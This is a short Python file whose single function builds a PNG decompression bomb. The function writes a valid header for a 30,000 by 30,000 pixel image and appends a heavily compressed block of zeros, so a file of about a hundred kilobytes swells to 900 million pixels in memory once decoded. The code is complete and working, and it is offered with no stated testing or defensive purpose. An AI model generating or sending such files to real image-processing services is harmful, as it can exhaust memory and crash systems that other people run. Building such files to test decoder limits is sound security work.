"""An image that is small as a file and huge in memory."""

import struct
import zlib


def make_bomb() -> bytes:
    """A PNG of a hundred kilobytes with 900 million pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(bytes(3751 * 30_000), 9)) + chunk(b"IEND", b"")
